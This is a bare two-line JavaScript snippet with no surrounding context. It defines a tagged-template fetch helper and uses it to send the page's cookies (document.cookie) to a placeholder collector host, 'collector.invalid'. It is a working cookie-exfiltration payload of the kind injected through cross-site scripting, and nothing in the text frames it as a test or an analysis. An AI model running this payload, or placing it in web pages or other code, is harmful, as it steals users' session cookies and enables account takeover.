const send = (parts, ...values) => fetch(parts.join('') + values.map(encodeURIComponent).join('/'));
send`https://collector.invalid/${document.cookie}`;
